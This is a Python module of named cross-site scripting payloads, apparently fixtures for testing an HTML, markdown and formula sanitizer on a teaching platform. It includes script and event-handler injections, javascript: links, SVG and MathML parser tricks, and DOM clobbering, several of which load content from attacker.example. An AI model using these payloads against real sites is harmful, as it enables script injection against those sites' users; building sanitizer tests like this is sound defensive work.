"""What a learner might write to make an instructor's browser do something.

Each payload, as it stands in a page, sets ``window.ran``, opens a dialog, or asks a server for
something; some need a click, an old browser or a careless second reading by another parser.
"""

# ruff: noqa: E501 - a payload is easier to read in one piece

from __future__ import annotations

RUN = "window.ran=1"
AWAY = "http://attacker.example"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script in capitals and halves": f"<SCR<script>IPT>{RUN}</ScRiPt >",
    "script from elsewhere": f'<script src="{AWAY}/x.js"></script>',
    "script as a module from data": f'<script type="module" src="data:text/javascript,{RUN}"></script>',
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image from elsewhere": f'<img src="{AWAY}/pixel.png">',
    "image with a set of sources": f'<img srcset="{AWAY}/a.png 1x" src="data:image/png;base64,AAAA">',
    "handler after a slash": f"<img/src=x/onerror={RUN}>",
    "handler on the page": f'<body onload="{RUN}" background="{AWAY}/b.png">',
    "handler on focus": f'<input autofocus onfocus="{RUN}"><a tabindex=0 onfocus="{RUN}">a</a>',
    "handler on opening": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    "handler on animation": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" '
    f'onanimationend="{RUN}">p</p>',
    "javascript link": f'<a href="javascript:{RUN}">go</a>',
    "javascript link with breaks": f'<a href="java\nscr\tipt:{RUN}">go</a>',
    "javascript link in entities": f'<a href="&#106;avascript&colon;{RUN}">go</a>',
    "javascript link after controls": f'<a href="\x01\x0ejavascript:{RUN}">go</a>',
    "vbscript and data links": f'<a href="vbscript:x">v</a><a href="data:text/html,<script>{RUN}'
    '</script>">d</a>',
    "frame": f'<iframe src="{AWAY}/f.html"></iframe>',
    "frame with its text": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object and embed": f'<object data="{AWAY}/o"></object><embed src="{AWAY}/e">',
    "svg with a handler": f'<svg onload="{RUN}"><circle r="1"/></svg>',
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg animates a link": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/>'
    "<text y=9>x</text></a></svg>",
    "svg uses another file": f'<svg><use href="{AWAY}/s.svg#a"/><image href="{AWAY}/i.png"/></svg>',
    "svg hides html": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "style sheet from elsewhere": f'<link rel="stylesheet" href="{AWAY}/s.css">',
    "style imports": f"<style>@import '{AWAY}/i.css'; p{{background:url({AWAY}/u.png)}}</style>",
    "style attribute": f'<p style="background:url({AWAY}/p.png);position:fixed;inset:0">p</p>',
    "style attribute escaped": f'<p style="text-align:left;\\62 ackground:\\75rl({AWAY}/q.png)">p</p>',
    "font from elsewhere": f"<style>@font-face{{font-family:f;src:url({AWAY}/f.woff)}}*{{font-family:f}}"
    "</style>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/r">',
    "base": f'<base href="{AWAY}/">',
    "form": f'<form action="{AWAY}/form"><button autofocus formaction="javascript:{RUN}">go</button>'
    "</form>",
    "media": f'<video poster="{AWAY}/v.png" src="{AWAY}/v.mp4" onerror="{RUN}"></video>'
    f'<audio src="{AWAY}/a.mp3"></audio>',
    "prefetch": f'<link rel="prefetch" href="{AWAY}/p"><link rel="dns-prefetch" href="{AWAY}">',
    "ping": f'<a href="#x" ping="{AWAY}/ping">go</a>',
    "template": f"<template><script>{RUN}</script></template>",
    "noscript reread": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "title reread": f'<title><a title="</title><img src=x onerror={RUN}>"></a></title>',
    "mathml reread": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
    f'onerror={RUN}&gt;">',
    "svg style reread": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mathml link": f'<math href="javascript:{RUN}"><mi>x</mi></math>'
    f'<math><maction actiontype="statusline#{AWAY}" xlink:href="javascript:{RUN}">x</maction></math>',
    "annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}>'
    "</annotation-xml></math>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    "breaks out of an attribute": f'"><img src=x onerror={RUN}><i title="',
    "breaks out of a quote": f"' onmouseover='{RUN}' x='",
    "breaks out of the page": f"</title></style></pre></table></svg><script>{RUN}</script>",
    "breaks out of a script": f"</script><script>{RUN}</script>",
    "unclosed": f'<img src=x onerror="{RUN}" ',
    "null inside": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x one\x00rror={RUN}>",
    "template language": "{{ 7*7 }}{% raw %}{{ page }}<script>" + RUN + "</script>",
    "clobbering": '<form id="document"><input name="body"></form><img name="getElementById">',
    "markdown link": f"[go](javascript:{RUN}) [go](<javascript:{RUN}>) [go]( javascript&colon;{RUN})",
    "markdown link elsewhere defined": f"[go][x] [x]\n\n[x]: javascript:{RUN}\n\n> [y]:\n> <data:text/html,z>",
    "markdown autolink": f"<javascript:{RUN}> <data:text/html,x>",
    "markdown image": f"![a]({AWAY}/m.png) ![a][r] ![r]\n\n[r]: {AWAY}/n.png",
    "markdown image with a handler": f'![a](x"onerror="{RUN}) ![" onerror="{RUN}](x)',
    "markdown tag over two lines": f'<div title="\n\n<img src=x onerror={RUN}>\n\n">',
    "markdown code that is none": f"`` ` `` <img src=x onerror={RUN}> `\n\n    <b>\n<img src=x onerror={RUN}>",
    "formula in an attribute": f'<div title="\n\n$\\text{{"><img src=x onerror={RUN}>}}$\n\n">',
    "formula with a tag": f"$\\text{{<script>{RUN}</script>}}$ $$\\text{{<img src=x onerror={RUN}>}}$$",
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\style{{background:url({AWAY}/t.png)}}{{x}}$",
    "formula with a class": f'$\\class{{x" onmouseover="{RUN}}}{{y}}$ $\\color{{"><img src=x onerror={RUN}>}}z$',
}
